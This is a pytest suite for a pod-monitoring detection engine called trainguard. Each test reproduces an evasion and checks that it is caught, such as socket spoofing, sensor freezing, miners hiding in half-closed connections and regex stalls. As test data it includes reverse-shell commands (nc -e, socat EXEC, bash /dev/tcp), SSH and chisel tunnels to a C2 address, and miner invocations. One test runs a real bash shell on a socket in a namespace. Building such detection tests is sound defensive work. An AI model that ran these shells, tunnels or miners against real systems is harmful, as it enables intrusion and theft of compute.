"""The attacks of issue 10, each as it was reproduced against the first engine, now caught.

Each test builds its samples as the version-2 sensor reports the attack. Where a real socket is
cheap to make (a socket bound with IP_TRANSPARENT, a half-closed TCP pair, a TIME_WAIT beacon,
SO_REUSEPORT, a raw socket) it is made in a network namespace the test creates and read back
from the kernel's tables (`netns.py`); the rest are recorded samples. The first engine let each
of these through (docs/detection.md, "What changed"); the docstrings say how.
"""

from __future__ import annotations

import itertools
import os
import signal
import subprocess
import sys
import threading
import time
from typing import Any

import pytest
from pydantic import ValidationError

from trainguard.api.sample import Sample
from trainguard.api.v1alpha1 import Monitoring, Policy
from trainguard.detection import Decision, Engine, EngineContext
from trainguard.detection.engine import ManualClock

from . import netns
from .netns import OBJECT_STORE
from .samples import CTX, DNS, POD, POD_IP, T0, conn, listen, policy, proc, sample, socket_stream, unconnected

#: The training policy of the example traces, in short: the object store on 443, DNS, the job's pods.
TRAINING = {
    "network": {"egress": [{"cidr": "203.0.113.0/24", "ports": [{"port": 443}]}], "listenPorts": [29500]},
    "enforcement": {"debounce": {"samples": 3}},
}


def run(
    samples: list[Sample],
    pol: Policy | None = None,
    ctx: EngineContext = CTX,
    *,
    arrivals: list[float] | None = None,
    pods: list[str] | None = None,
    monitoring: Monitoring | None = None,
) -> list[Decision]:
    """Feed the samples (from the pod each names, or `pods`), arriving at their times (or `arrivals`)."""
    clock = ManualClock(T0)
    engine = Engine(pol or policy(**TRAINING), ctx, clock, monitoring)
    out: list[Decision] = []
    for i, s in enumerate(samples):
        clock.set(arrivals[i] if arrivals else s.ts)
        out.extend(engine.tick())
        out.extend(engine.observe(pods[i] if pods else s.pod, s))
    return out


def new(decisions: list[Decision]) -> set[tuple[str, str]]:
    return {(d.violation.rule, d.violation.identity) for d in decisions if d.kind == "new"}


def rules(decisions: list[Decision]) -> set[str]:
    return {r for r, _ in new(decisions)}


def steady(n: int, **sections: Any) -> list[Sample]:
    return [sample(t=i, **sections) for i in range(n)]


# --- trust from Kubernetes ---------------------------------------------------------------------


def test_an_address_bound_with_ip_transparent_is_never_a_job_pod() -> None:
    """First engine: one sample with a socket bound (IP_TRANSPARENT) to any address made that address a
    job pod for good, and SSH to it raised nothing."""
    real = netns.in_netns(
        """
        import socket, time
        t = socket.socket(); t.setsockopt(socket.SOL_IP, 19, 1)  # IP_TRANSPARENT
        t.bind(("192.0.2.66", 5000)); t.setblocking(False)
        try: t.connect(("192.0.2.10", 443))
        except BlockingIOError: pass
        time.sleep(0.05)
        """
    )
    assert [c["local"]["address"] for c in real["connections"]] == ["192.0.2.66"]
    spoof = [sample(t=i, connections=real["connections"]) for i in range(4)]
    ssh = sample(t=4, connections=[conn("192.0.2.66:22", state="ESTABLISHED")])
    assert ("net.tunnel", "192.0.2.66:22") in new(run([*spoof, ssh]))


def test_a_ddp_rendezvous_that_starts_late_is_the_jobs_own_traffic() -> None:
    """First engine: pod IPs were learned from the first samples only; a rendezvous to the pod's own IP
    starting after the fourth sample was quarantined 2 s in."""
    quiet = steady(6)
    rendezvous = [sample(t=6 + i, connections=[conn(f"{POD_IP}:29500", local_port=51000)]) for i in range(10)]
    assert new(run(quiet + rendezvous)) == set()


def test_without_the_clusters_facts_the_engine_fails_closed() -> None:
    """First engine: with no resolvers named, port 53 to any host was DNS (a reverse tunnel over TCP 53
    passed); an unresolved selector rule allowed every private address on its ports."""
    tcp53 = [sample(t=i, connections=[conn("192.0.2.10:53")]) for i in range(3)]
    assert ("net.egress.undeclared", "192.0.2.10:53") in new(run(tcp53, ctx=EngineContext()))
    assert ("net.egress.undeclared", "192.0.2.10:53") in new(run(tcp53))  # not the named resolver
    dns = [sample(t=i, connections=[conn(f"{DNS}:53", proto="udp")]) for i in range(3)]
    assert new(run(dns)) == set()
    selector = policy(
        network={"egress": [{"podSelector": {"matchLabels": {"app": "db"}}, "ports": [{"port": 5432}]}]},
        enforcement={"debounce": {"samples": 1}},
    )
    db = [sample(t=0, connections=[conn("10.1.2.3:5432")])]
    assert ("net.egress.undeclared", "10.1.2.3:5432") in new(run(db, selector))
    resolved = EngineContext(dns_resolvers=CTX.dns_resolvers, selector_peers={0: frozenset({"10.1.2.3"})})
    assert new(run(db, selector, resolved)) == set()


def test_a_sample_naming_another_pod_is_sensor_identity_and_clears_nothing() -> None:
    """First engine: it trusted sample.pod, so a forged sample naming another pod cleared that pod's
    violations."""
    victim = "agents/worker-1"
    listener = [sample(t=i, pod=victim, listening=[listen(8081)]) for i in range(3)]
    forged = [sample(t=3 + i, pod=victim) for i in range(5)]  # clean samples naming the victim...
    decisions = run([*listener, *forged], pods=[victim] * 3 + [POD] * 5)  # ...sent by worker-0's sensor
    assert ("sensor.identity", "") in new(decisions)
    assert [d.violation.pod for d in decisions if d.violation.rule == "sensor.identity"] == [POD]
    assert not [d for d in decisions if d.kind == "cleared" and d.violation.pod == victim]


# --- every socket that can carry data ----------------------------------------------------------


def test_a_client_sharing_a_listeners_port_is_not_inbound() -> None:
    """First engine: "inbound" was decided by the local port alone: a client bound (SO_REUSEPORT) to a
    listening port, or a UDP socket in the exempt ephemeral range, was never judged."""
    real = netns.in_netns(
        """
        import socket, time
        pool = socket.socket(); pool.bind(("192.0.2.77", 3333)); pool.listen()
        srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        srv.bind(("0.0.0.0", 29500)); srv.listen()
        c = socket.socket(); c.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        c.bind(("10.244.1.10", 29500)); c.connect(("192.0.2.77", 3333))
        c.sendall(b'{"id":1,"method":"login"}\\n')
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("10.244.1.10", 40000))
        u.sendto(b"share", ("192.0.2.77", 3333))
        time.sleep(0.05)
        """
    )
    [client] = real["connections"]
    assert client["local"]["port"] == 29500 and client["state"] == "ESTABLISHED"
    # The listener is on 0.0.0.0:29500 and the client on 10.244.1.10:29500: by address and port it
    # matches, so it looks inbound; its remote port (3333, not ephemeral) is judged all the same.
    found = new(run([sample(t=0, **real)]))
    assert ("net.tunnel", "192.0.2.77:3333") in found
    assert any(r == "net.socket.unconnected" for r, _ in run_new_debounced(real))
    # A client on a listener's port but another address is outbound, and judged as such.
    other = {**client, "local": {"address": POD_IP, "port": 29500}}
    loopback_listener = [listen(29500, "127.0.0.1")]
    out = run([sample(t=i, listening=loopback_listener, connections=[other]) for i in range(3)])
    assert ("net.egress.undeclared", "192.0.2.77:3333") in new(out)


def test_a_client_sharing_a_wildcard_listeners_port_to_a_c2_is_egress() -> None:
    """Second engine: a client bound (SO_REUSEPORT) to a wildcard listener's port looked inbound (the
    listener accepts on every address), so its egress to a C2 on a port that is neither SSH nor a pool
    was never judged. The real sockets: the kernel lists the client exactly as it lists an accepted
    connection (local 10.244.1.10:29500), so direction is read from the far end's port: 8443 is a
    server's, not a client's ephemeral source port. A peer connecting in from an ephemeral port stays
    inbound (and is allowed: the listener is declared)."""
    real = netns.in_netns(
        """
        import socket, time
        c2 = socket.socket(); c2.bind(("192.0.2.10", 8443)); c2.listen()
        srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        srv.bind(("0.0.0.0", 29500)); srv.listen()
        c = socket.socket(); c.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        c.bind(("10.244.1.10", 29500)); c.connect(("192.0.2.10", 8443))
        c.sendall(b"beacon")
        peer = socket.socket(); peer.bind(("192.0.2.77", 0)); peer.connect(("10.244.1.10", 29500))
        accepted, _ = srv.accept()
        time.sleep(0.05)
        """
    )
    on_29500 = [c for c in real["connections"] if c["local"]["port"] == 29500]
    assert sorted(c["remote"]["address"] for c in on_29500) == ["192.0.2.10", "192.0.2.77"]
    assert {c["local"]["address"] for c in on_29500} == {POD_IP}  # the client and the accepted one alike
    found = new(run([sample(t=i, **real) for i in range(3)]))  # the training policy: 29500 declared
    assert ("net.egress.undeclared", "192.0.2.10:8443") in found
    assert [i for _, i in found if i.startswith("192.0.2.77:")] == []  # the peer connecting in


@pytest.mark.xfail(
    strict=True,
    reason="open: the kernel's socket tables do not say which end connected; a client bound (SO_REUSEPORT) "
    "to a listener's port, to a C2 serving on a port in the ephemeral range, looks exactly like a client "
    "connecting in (docs/threat-model.md, 2c)",
)
def test_a_client_sharing_a_listeners_port_to_a_c2_on_an_ephemeral_port_is_egress() -> None:
    c2 = conn("192.0.2.10:45000", local_port=29500)
    found = new(run([sample(t=i, listening=[listen(29500)], connections=[c2]) for i in range(3)]))
    assert ("net.egress.undeclared", "192.0.2.10:45000") in found


def run_new_debounced(sections: dict[str, list[dict[str, Any]]]) -> set[tuple[str, str]]:
    return new(run([sample(t=i, **sections) for i in range(3)]))


def test_a_miner_sending_from_close_wait_is_caught() -> None:
    """First engine: only some TCP states were judged; a miner sent 36 shares from CLOSE_WAIT."""
    real = netns.in_netns(
        """
        import socket, time
        pool = socket.socket(); pool.bind(("192.0.2.77", 3333)); pool.listen()
        c = socket.socket(); c.bind(("10.244.1.10", 0)); c.connect(("192.0.2.77", 3333))
        a, _ = pool.accept(); a.shutdown(socket.SHUT_WR)  # the pool half-closes; the miner can still send
        time.sleep(0.05)
        for _ in range(36): c.sendall(b'{"method":"mining.submit"}\\n')
        time.sleep(0.05)
        """
    )
    assert [c["state"] for c in real["connections"]] == ["CLOSE_WAIT"]
    found = run_new_debounced(real)
    assert {("net.tunnel", "192.0.2.77:3333"), ("net.egress.undeclared", "192.0.2.77:3333")} <= found


def test_a_beacon_that_leaves_only_time_wait_is_caught() -> None:
    """First engine: a beacon that connects, sends and closes every 3 s left only TIME_WAIT sockets."""
    real = netns.in_netns(
        """
        import socket, time
        l = socket.socket(); l.bind(("192.0.2.10", 8443)); l.listen()
        for _ in range(3):
            k = socket.socket(); k.bind(("10.244.1.10", 0)); k.connect(("192.0.2.10", 8443))
            x, _ = l.accept(); k.sendall(b"beacon"); k.close(); x.recv(16); x.close()
        time.sleep(0.05)
        """
    )
    assert {c["state"] for c in real["connections"]} == {"TIME_WAIT"}
    assert ("net.egress.undeclared", "192.0.2.10:8443") in run_new_debounced(real)


def test_a_raw_socket_is_a_finding_unless_the_policy_allows_it() -> None:
    """First engine: raw, ICMP and packet sockets passed as listeners (or not at all)."""
    real = netns.in_netns(
        """
        import socket
        r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        """
    )
    assert [u["proto"] for u in real["unconnected_sockets"]] == ["raw"]
    assert ("net.socket.unconnected", "raw 0.0.0.0:1") in run_new_debounced(real)
    allowing = policy(**{**TRAINING, "network": {**TRAINING["network"], "unconnectedSockets": ["raw"]}})
    assert new(run([sample(t=i, **real) for i in range(3)], allowing)) == set()


def test_unconnected_udp_senders_and_packet_sockets_are_judged() -> None:
    socks = [unconnected("udp", POD_IP, 40000), unconnected("packet", "", 0), unconnected("udp", "0.0.0.0", 29500)]
    found = new(run([sample(t=i, unconnected_sockets=socks) for i in range(3)]))
    # 29500 is a declared listen port: a declared UDP server.
    assert found == {("net.socket.unconnected", f"udp {POD_IP}:40000"), ("net.socket.unconnected", "packet")}


# --- the sensor's health -----------------------------------------------------------------------


def test_a_sensor_frozen_7_s_of_every_9_is_sensor_gap() -> None:
    """First engine: SIGSTOP 7 s of every 9 stayed under the 10 s silence bound; a process literally
    named xmrig mined unseen (it ran only while the sensor was stopped)."""
    # The sensor samples at 1 Hz while it runs: 2 s awake, 7 s stopped, again and again.
    times = [c * 9 + k for c in range(8) for k in (0, 1)]
    samples = [sample(t=t) for t in times]
    decisions = run(samples)
    found = rules(decisions)
    assert "sensor.gap" in found and "sensor.silent" not in found
    first = min(d.time for d in decisions if d.violation.rule == "sensor.gap") - T0
    assert first <= 20  # two freezes (14 s of gaps) are past the 10 s tolerance


def test_a_steady_sensor_with_jitter_is_no_gap() -> None:
    times = [i + (0.3 if i % 7 == 0 else 0.0) for i in range(120)]
    assert "sensor.gap" not in rules(run([sample(t=t) for t in times]))


@pytest.mark.parametrize(
    ("kind", "rule"),
    [
        ("process_cap", "sensor.capped"),
        ("connection_cap", "sensor.capped"),
        ("fd_cap", "sensor.capped"),
        ("net_fallback", "sensor.degraded"),
        ("proc_permission", "sensor.degraded"),
        ("gpu_unsupported", None),
        ("attribution", None),
    ],
)
def test_sensor_errors_that_hide_part_of_the_pod_are_sensor_degraded_or_capped(kind: str, rule: str | None) -> None:
    samples = [sample(t=i, errors=[{"kind": kind, "message": "x"}]) for i in range(3)]
    found = new(run(samples))
    assert {r for r, i in found if i == kind} == ({rule} if rule else set())


def test_hiding_past_a_cap_costs_what_it_hides() -> None:
    """Second engine: decoys pushed a miner past the sensor's process cap; all the engine saw was
    `sensor.degraded` (Medium), so under a Quarantine-on-Critical ladder the hidden miner's Critical
    became an Alert. A cap hit is the workload's doing: `sensor.capped`, Critical by default (debounced:
    one sample past a cap is not enough), and `monitoring.sensorCapSeverity` sets it per job."""
    ladder = policy(
        **{
            **TRAINING,
            "enforcement": {
                "action": "Alert",
                "debounce": {"samples": 3},
                "escalation": [{"action": "Quarantine", "minSeverity": "Critical"}],
            },
        }
    )
    capped = [sample(t=i, errors=[{"kind": "process_cap", "message": "4096 processes; 17 left out"}]) for i in range(3)]
    decisions = [d for d in run(capped, ladder) if d.kind == "new"]
    assert [(d.violation.rule, d.violation.severity, d.action) for d in decisions] == [
        ("sensor.capped", "Critical", "Quarantine")
    ]
    assert [d.violation.pod for d in decisions] == [POD]
    assert run(capped[:2], ladder) == []  # debounced
    lowered = run(capped, ladder, monitoring=Monitoring(sensorCapSeverity="High"))
    assert [(d.violation.severity, d.action) for d in lowered if d.kind == "new"] == [("High", "Alert")]


def test_a_new_cap_severity_applies_to_a_standing_violation() -> None:
    """`Engine.update(monitoring=...)` re-judges a standing sensor.capped under its new severity."""
    ladder = policy(
        **{**TRAINING, "enforcement": {"escalation": [{"action": "Quarantine", "minSeverity": "Critical"}]}}
    )
    clock = ManualClock(T0)
    engine = Engine(ladder, CTX, clock, Monitoring(sensorCapSeverity="High"))
    for i in range(3):
        s = sample(t=i, errors=[{"kind": "connection_cap", "message": "x"}])
        clock.set(s.ts)
        engine.observe(POD, s)
    [standing] = engine.standing()
    assert (standing.rule, standing.severity) == ("sensor.capped", "High")
    [updated] = engine.update(monitoring=Monitoring())
    assert (updated.kind, updated.violation.severity, updated.action) == ("updated", "Critical", "Quarantine")


def test_gpu_unavailable_counts_only_for_a_pod_that_had_gpus() -> None:
    blind = [sample(t=i + 1, gpus=[], errors=[{"kind": "gpu_unavailable"}]) for i in range(3)]
    assert ("sensor.degraded", "gpu_unavailable") in new(run([sample(t=0), *blind]))
    cpu_only = [sample(t=i, gpus=[], errors=[{"kind": "gpu_unavailable"}]) for i in range(4)]
    assert new(run(cpu_only)) == set()


# --- patterns on text the workload writes ------------------------------------------------------


def test_a_backtracking_pattern_cannot_stall_the_engine() -> None:
    """First engine: `re:(a|aa)+$` on a 41-character command line blocked replay for 29.5 s."""
    pol = policy(processes={"denied": ["re:(a|aa)+$"]}, enforcement={"debounce": {"samples": 1}})
    argv = ["a" * 40 + "b", "a" * 4000 + "!"]
    started = time.process_time()
    found = new(run([sample(t=0, processes=[proc(27, "python3", argv=argv)])], pol))
    assert time.process_time() - started < 1.0
    assert found == set()
    assert ("process.denied", "python3") in new(run([sample(t=0, processes=[proc(27, "python3", "x aaaa")])], pol))


@pytest.mark.parametrize("field", ["denied", "allowed"])
def test_an_invalid_pattern_is_refused_by_the_model_naming_the_field(field: str) -> None:
    """First engine: an invalid `re:` passed the CRD and failed only inside the engine."""
    with pytest.raises(ValidationError) as err:
        Policy.model_validate({"processes": {field: ["python*", "re:(?<=x)y"]}})
    [problem] = err.value.errors()
    assert problem["loc"][:3] == ("processes", field, 1)
    assert "RE2" in problem["msg"]
    with pytest.raises(ValidationError) as err:
        Policy.model_validate({"gpu": {"allowedProcesses": ["re:("]}})
    assert err.value.errors()[0]["loc"][:2] == ("gpu", "allowedProcesses")


# --- tools by argv and executable --------------------------------------------------------------

SSH = "/usr/bin/ssh"


@pytest.mark.parametrize(
    "argv",
    [
        ["ssh", "-R", "2222:localhost:22", "c2@192.0.2.10"],
        ["ssh", "-fNR2222:localhost:22", "c2@192.0.2.10"],
        ["ssh", "-oRemoteForward=2222 localhost:22", "-p", "443", "c2@192.0.2.10"],
        ["ssh", "-o", "RemoteForward 2222 localhost:22", "-p", "443", "c2@192.0.2.10"],
        ["ssh", "-p", "443", "c2@192.0.2.10", "-D", "1080"],
        ["ssh", "-L", "8080:10.0.0.1:80", "host"],
        ["ssh", "-W", "10.0.0.1:22", "jump"],
        ["dbclient", "-R", "2222:localhost:22", "c2@192.0.2.10"],
        ["gost", "-L=rtcp://:2222/127.0.0.1:22", "-F=relay+tls://192.0.2.10:443"],
        ["socat", "OPENSSL:192.0.2.10:443,verify=0", "EXEC:/bin/bash,pty,stderr"],
        ["ncat", "--sh-exec", "bash", "192.0.2.10", "443"],
        ["nc", "-e", "/bin/sh", "192.0.2.10", "443"],
        ["/tmp/.x/chisel_1.9.1_linux_amd64", "client", "https://192.0.2.10:443", "R:socks"],
    ],
)
def test_tunnels_in_any_spelling(argv: list[str]) -> None:
    """First engine: a regex over the joined command line missed `-o 'RemoteForward ...'`; dbclient and
    gost were not known."""
    name = argv[0].rsplit("/", 1)[-1][:15]
    p = proc(501, name, argv=argv, exe=f"/usr/bin/{name}")
    assert ("net.tunnel", f"process:{name} pid 501") in new(run([sample(t=0, processes=[p])]))


@pytest.mark.parametrize(
    "argv",
    [
        ["ssh", "-oUserKnownHostsFile=/dev/null", "-oStrictHostKeyChecking=no", "host"],
        ["ssh", "host", "ls", "-lR"],
        ["ssh", "-o", "ServerAliveInterval=30", "-i", "/root/.ssh/id_R", "host", "rsync", "-R", "x"],
        ["ssh", "-o", "Tunnel=no", "host"],
    ],
)
def test_ordinary_ssh_is_no_tunnel(argv: list[str]) -> None:
    """First engine: `ssh -oUserKnownHostsFile=...` and `ssh host ls -lR` were Critical tunnels."""
    p = proc(501, "ssh", argv=argv, exe=SSH)
    assert new(run([sample(t=i, processes=[p]) for i in range(3)])) == set()


def test_two_tunnels_of_one_tool_are_two_violations() -> None:
    """Second engine: a tool's tunnel was keyed `process:ssh`, so a second `ssh -R` (to the allowed 443,
    where the quarantine's cut keeps the connection and stops only the pid a decision names) opened while
    the first stood was in no decision, and went on unreported after the first was killed. Each tunnel
    process is its own violation (identity with its pid): the second is `new` with its own pid, the
    first clears when it is gone, the second stands on."""
    forward = ["ssh", "-N", "-R", "2222:localhost:22", "-p", "443", "c2@203.0.113.40"]
    first = proc(501, "ssh", argv=forward, exe=SSH)
    second = proc(502, "ssh", argv=[*forward[:3], "2223:localhost:22", *forward[4:]], exe=SSH)
    samples = [
        sample(t=0, processes=[first]),
        sample(t=1, processes=[first, second]),
        *(sample(t=2 + i, processes=[second]) for i in range(4)),  # the first one killed
    ]
    decisions = [d for d in run(samples) if d.violation.rule == "net.tunnel"]
    assert [(d.kind, d.violation.identity, d.violation.evidence["pid"]) for d in decisions] == [
        ("new", "process:ssh pid 501", 501),
        ("new", "process:ssh pid 502", 502),
        ("cleared", "process:ssh pid 501", 501),
    ]
    config = ["ssh", "-F", "/tmp/.c", "-p", "443", "c2@203.0.113.40"]
    both = [proc(601, "ssh", argv=config, exe=SSH), proc(602, "ssh", argv=config, exe=SSH)]
    found = new(run([sample(t=i, processes=both) for i in range(3)]))
    assert found == {("net.tunnel.ssh-config", "process:ssh pid 601"), ("net.tunnel.ssh-config", "process:ssh pid 602")}


def test_ssh_with_a_config_file_is_a_lower_finding() -> None:
    """A forward set in an `-F` file cannot be seen: net.tunnel.ssh-config (High), not net.tunnel."""
    p = proc(501, "ssh", argv=["ssh", "-F", "/tmp/.c", "-p", "443", "c2@192.0.2.10"], exe=SSH)
    found = new(run([sample(t=i, processes=[p]) for i in range(3)]))
    assert found == {("net.tunnel.ssh-config", "process:ssh pid 501")}
    quiet = proc(501, "ssh", argv=["ssh", "-F", "/dev/null", "host"], exe=SSH)
    assert new(run([sample(t=i, processes=[quiet]) for i in range(3)])) == set()


@pytest.mark.parametrize(
    ("argv", "exe"),
    [
        (["SRBMiner-MULTI", "--algorithm", "randomx"], "/opt/srb/SRBMiner-MULTI"),
        (["python3", "-u", "train.py"], "/tmp/.cache/xmrig"),  # renamed, but the executable says it
        (["sh", "-c", "cd /tmp && ./xmrig --donate-level 1"], "/bin/sh"),
        (["python3", "w.py", "-o", "stratum+ssl://pool.example:443"], "/usr/bin/python3"),
    ],
)
def test_miners_by_executable_and_arguments(argv: list[str], exe: str) -> None:
    p = proc(600, "python3", argv=argv, exe=exe)
    assert "process.denied" in rules(run([sample(t=0, processes=[p])]))


def test_allow_lists_match_the_executable_not_the_name() -> None:
    pol = policy(processes={"allowed": ["python*", "/usr/bin/torchrun"]}, enforcement={"debounce": {"samples": 1}})
    fine = [proc(1, "torchrun", exe="/usr/bin/torchrun"), proc(27, "python3", exe="/usr/local/bin/python3.11")]
    assert new(run([sample(t=0, processes=fine)], pol)) == set()
    renamed = proc(28, "python3", argv=["python3", "train.py"], exe="/tmp/miner")
    deleted = proc(29, "python3", exe_status="deleted")
    found = new(run([sample(t=0, processes=[*fine, renamed, deleted])], pol))
    assert found == {("process.unexpected", "python3")}
    # A version-1 process (no exe) is judged by argv[0] and name; never a version-2 one.
    v1 = proc(30, "python3", exe_status="unknown", container="")
    assert new(run([sample(t=0, processes=[*fine, v1])], pol)) == set()


def test_plumbing_is_exempt_by_container_not_by_name() -> None:
    pol = policy(processes={"allowed": ["python*"]}, enforcement={"debounce": {"samples": 1}})
    sensor = proc(900, "trainguard", exe="/usr/local/bin/trainguard", container="trainguard-sensor")
    pause = proc(1, "pause", exe="/pause", container="POD")
    impostor = proc(901, "trainguard", exe="/tmp/trainguard", container="trainer")
    found = new(run([sample(t=0, processes=[sensor, pause, impostor])], pol))
    assert found == {("process.unexpected", "trainguard")}
    assert [d.violation.evidence["exe"] for d in run([sample(t=0, processes=[impostor])], pol)] == ["/tmp/trainguard"]


# --- reverse shells ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "argv"),
    [
        ("bash", ["bash", "-i"]),
        ("python3", ["python3", "-c", "import socket,subprocess,os;s=socket.socket();..."]),
        ("sh", ["/bin/sh"]),
    ],
)
def test_a_shell_on_a_socket_is_a_reverse_shell_whatever_the_destination(name: str, argv: list[str]) -> None:
    """First engine: `bash -i >& /dev/tcp/...:443` and a python reverse shell to the allowed object store
    gave working root shells and raised nothing."""
    c = conn(f"{OBJECT_STORE}:443", inode=777001, pid=700)
    shell = proc(700, name, argv=argv, stdin=socket_stream(777001), stdout=socket_stream(777001))
    found = new(run([sample(t=0, processes=[shell], connections=[c])]))
    assert found == {("process.reverse-shell", "pid 700")}


def test_a_shell_on_a_unix_socket_or_a_non_shell_on_a_socket_is_not() -> None:
    unix = proc(700, "bash", argv=["bash"], stdin=socket_stream(5), stdout=socket_stream(5))
    c = conn(f"{OBJECT_STORE}:443", inode=777001, pid=701)
    server = proc(701, "nginx", argv=["nginx"], stdin=socket_stream(777001))
    assert new(run([sample(t=i, processes=[unix, server], connections=[c]) for i in range(3)])) == set()


def test_a_real_bash_on_a_socket_to_the_allowed_object_store_is_a_reverse_shell() -> None:
    """`bash -i >& /dev/tcp/<object store>/443 0>&1`, as it runs: a real bash whose fds 0 and 1 are a
    TCP socket, read as the sensor reads them (/proc/<pid>/fd links, the socket's inode)."""
    real = netns.in_netns(
        """
        import os, socket, subprocess, time
        store = socket.socket(); store.bind(("203.0.113.40", 443)); store.listen()
        c = socket.socket(); c.bind(("10.244.1.10", 0)); c.connect(("203.0.113.40", 443))
        peer, _ = store.accept()
        shell = subprocess.Popen(["bash", "-i"], stdin=c.fileno(), stdout=c.fileno(), stderr=subprocess.DEVNULL)
        import atexit; atexit.register(shell.kill)  # after the socket tables are read
        time.sleep(0.2)
        EXTRA = {"pid": shell.pid, "exe": os.readlink(f"/proc/{shell.pid}/exe"),
                 "fd0": os.readlink(f"/proc/{shell.pid}/fd/0"),
                 "fd1": os.readlink(f"/proc/{shell.pid}/fd/1")}
        """
    )
    extra = real.pop("extra")
    assert extra["fd0"].startswith("socket:[") and extra["fd0"] == extra["fd1"]
    inode = int(extra["fd0"][len("socket:[") : -1])
    [c] = real["connections"]
    assert c["inode"] == inode and c["remote"] == {"address": OBJECT_STORE, "port": 443}
    stream = {"kind": "socket", "target": extra["fd0"], "inode": inode}
    shell = proc(extra["pid"], "bash", argv=["bash", "-i"], exe=extra["exe"], stdin=stream, stdout=stream)
    for s in real["connections"]:
        s["pid"] = extra["pid"]
    found = new(run([sample(t=0, processes=[shell], **real)]))
    assert found == {("process.reverse-shell", f"pid {extra['pid']}")}  # the destination is allowed: nothing else


def test_a_really_sigstopped_sensor_is_sensor_gap() -> None:
    """A real process standing in for the sensor writes a line every 0.1 s; it is stopped (SIGSTOP) for
    0.7 s of every 0.9 s, as the attack stops the sensor 7 s of every 9. Its lines' arrival times,
    ten times slower (0.1 s is the sensor's 1 s), are the samples' arrival times."""
    child = subprocess.Popen(
        [sys.executable, "-u", "-c", "import time\nwhile True:\n    print(1)\n    time.sleep(0.1)"],
        stdout=subprocess.PIPE,
        text=True,
    )
    arrivals: list[float] = []

    def read() -> None:
        assert child.stdout is not None
        for _ in child.stdout:
            arrivals.append(time.monotonic())

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    deadline = time.monotonic() + 30
    while not arrivals and time.monotonic() < deadline:  # the child is up and writing
        time.sleep(0.01)
    try:
        started = time.monotonic()
        for _ in range(4):
            time.sleep(0.2)  # the attack: the sensor runs 2 "seconds" ...
            os.kill(child.pid, signal.SIGSTOP)
            time.sleep(0.7)  # ... and is frozen 7
            os.kill(child.pid, signal.SIGCONT)
        time.sleep(0.2)
    finally:
        child.kill()
        child.wait()
    times = [(a - started) * 10 for a in arrivals]
    assert len(times) >= 5 and max(b - a for a, b in itertools.pairwise(times)) >= 6
    # The silence bound is set well above a freeze (a loaded machine stretches them): the attack is
    # to stay under whatever it is.
    monitoring = Monitoring(sensor_silence_seconds=30)
    samples = [sample(t=t, seq=i) for i, t in enumerate(times)]
    decisions = run(samples, arrivals=[T0 + t for t in times], monitoring=monitoring)
    found = rules(decisions)
    assert "sensor.gap" in found and "sensor.silent" not in found
